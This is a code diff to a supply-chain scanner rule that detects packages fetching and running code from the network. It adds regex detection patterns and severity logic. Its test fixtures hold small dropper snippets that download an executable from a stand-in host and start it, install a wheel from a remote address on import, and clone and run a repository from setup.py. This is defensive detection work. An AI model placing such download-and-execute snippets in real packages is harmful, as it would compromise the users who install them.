@@ -9,40 +9,44 @@ from pratique.facts.model import PackageFacts
 from pratique.facts.python.model import Argument, Call, Does, Source, Taint
 from pratique.facts.shell import ShellFacts, read_shell
 from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
-from pratique.rules.claims import calls, claim, command, hidden, when
+from pratique.rules.claims import calls, claim, command, hidden, holds_little, when
 from pratique.rules.rule import Example, Rule
 
 _ID = "second-stage"
 _PLACE = re.compile(r"[a-z]{2,8}://|\d{1,3}(?:\.\d{1,3}){3}")
 """Without one in the code, what is fetched is the caller's choice: unpacking it is no hiding."""
+_FIXED = re.compile(r"https?://[^\s<>/]+\.[^\s<>]+/[^\s<>]+")
 _READER = re.compile(r"\S*?((ba|z|da|k)?sh|python[\d.]*|<sys\.executable>)( -[sil]*)*")
 _FEEDS = (".communicate", ".write")
 _INDEX_LAYOUT = re.compile(r"https://[^/\s]{4,80}/packages/source/\w/[\w.-]+/")
+_ARCHIVE = re.compile(r"(?:^|\s)https?://\S+\.(?:whl|zip|tar\.gz|tgz)\b")
 _ELSEWHERE = re.compile(r"(^|\s|=|@)(git\+|hg\+)?(https?|ssh|ftp)://")
 
 
 def _check(facts: PackageFacts) -> Iterator[Finding]:
+    small = holds_little(facts)
     for path, call in calls(facts):
         if Does.RUN_CODE in call.does and (taints := _fetched_code(call)):
             yield _finding(path, call, taints, f"code fetched from {_origin(taints)} is executed {when(call.phase)}")
         elif Does.IMPORT in call.does and call.phase.automatic and (taints := _fetched_module(call)):
             yield _finding(path, call, taints, f"a module fetched from {_origin(taints)} is loaded {when(call.phase)}")
         elif Does.RUN_PROCESS in call.does:
-            yield from _process(path, call)
+            yield from _process(path, call, small=small)
     for script in facts.shells:
         if script.runs_download and facts.index[script.path].role.value != "script":
             yield _script(script)
 
 
-def _process(path: str, call: Call) -> Iterator[Finding]:
+def _process(path: str, call: Call, *, small: bool) -> Iterator[Finding]:
     if taints := _fetched_program(call) or _fetched_input(call):
-        yield _finding(path, call, taints, f"a program fetched from {_origin(taints)} is run {when(call.phase)}")
+        message = f"a program fetched from {_origin(taints)} is run {when(call.phase)}"
+        yield _finding(path, call, taints, message, small=small)
         return
     shell = read_shell(_line(call))
     if not shell.runs_download and (fed := _fed(call)):
         shell = read_shell(fed.text)
     if shell.runs_download:
-        yield _finding(path, call, (), f"a command fetches {_first(shell)} and runs it {when(call.phase)}")
+        yield _finding(path, call, (), f"a command fetches {_first(shell)} and runs it {when(call.phase)}", small=small)
     elif (place := _from_elsewhere(shell)) and call.phase.automatic:
         yield _installed(path, call, place)
 
@@ -59,14 +63,15 @@ def _from_elsewhere(shell: ShellFacts) -> str:
 
 def _installed(path: str, call: Call, place: str) -> Finding:
     covert = hidden(call, place)
+    sure = covert or (call.phase is not Phase.INSTALL and _ARCHIVE.search(place) is not None)
     return claim(
         _ID,
         Behaviour.SECOND_STAGE,
         path,
         call,
         f"a package is installed from {place[:160]} {when(call.phase)}",
-        severity=Severity.CRITICAL if covert else Severity.MEDIUM,
-        confidence=Confidence.HIGH if covert else Confidence.LOW,
+        severity=Severity.CRITICAL if sure else Severity.MEDIUM,
+        confidence=Confidence.HIGH if sure else Confidence.LOW,
         proven=covert and "-i" not in place.split(),
     )
 
@@ -104,18 +109,19 @@ def _fetched_program(call: Call) -> tuple[Taint, ...]:
     return tuple(t for t in first.taints if t.source is Source.NETWORK) if whole and first else ()
 
 
-def _finding(path: str, call: Call, taints: tuple[Taint, ...], message: str) -> Finding:
+def _finding(path: str, call: Call, taints: tuple[Taint, ...], message: str, *, small: bool = False) -> Finding:
     places = " ".join([*(t.detail for t in taints), command(call)])
     covert = hidden(call, places) and (call.phase.automatic or _PLACE.search(places) is not None or bool(call.layers))
     sure = call.phase.automatic or covert
+    bare = not sure and small and _FIXED.search(places) is not None
     return claim(
         _ID,
         Behaviour.SECOND_STAGE,
         path,
         call,
         message,
-        severity=Severity.CRITICAL if sure else Severity.HIGH,
-        confidence=Confidence.HIGH if sure else Confidence.LOW,
+        severity=Severity.CRITICAL if sure or bare else Severity.HIGH,
+        confidence=Confidence.HIGH if sure or bare else Confidence.LOW,
         proven=sure and (covert or not _from_an_index(taints)),
         taints=taints,
     )
@@ -184,6 +190,27 @@ RULE = Rule(
             files={
                 "pkg/__init__.py": "import os, urllib.request\np = os.path.join(os.getenv('TEMP'), 'a.exe')\n"
                 "with open(p, 'wb') as f:\n    f.write(urllib.request.urlopen('http://192.0.2.7/a').read())\nos.startfile(p)\n"
+            },
+        ),
+        Example(
+            title="in a package that holds nothing else, when called",
+            files={
+                "pkg/__init__.py": "import os, urllib.request as u\ndef start():\n"
+                "    u.urlretrieve('https://c.example.invalid/s/a.exe', 'a.exe')\n    getattr(os, 'start' + 'file')('a.exe')\n"
+            },
+        ),
+        Example(
+            title="a package by its address, when imported",
+            files={
+                "pkg/__init__.py": "import os, sys\n"
+                "os.system(sys.executable + ' -m pip install https://c.example.invalid/a-1.0-py3-none-any.whl')\n"
+            },
+        ),
+        Example(
+            title="a repository, cloned and started",
+            files={
+                "setup.py": "import os, subprocess, git\ngit.Repo.clone_from('https://c.example.invalid/a.git', '/tmp/a')\n"
+                "os.chdir('/tmp/a')\nsubprocess.run(['python', 'run.py'])\n"
             },
         ),
     ),
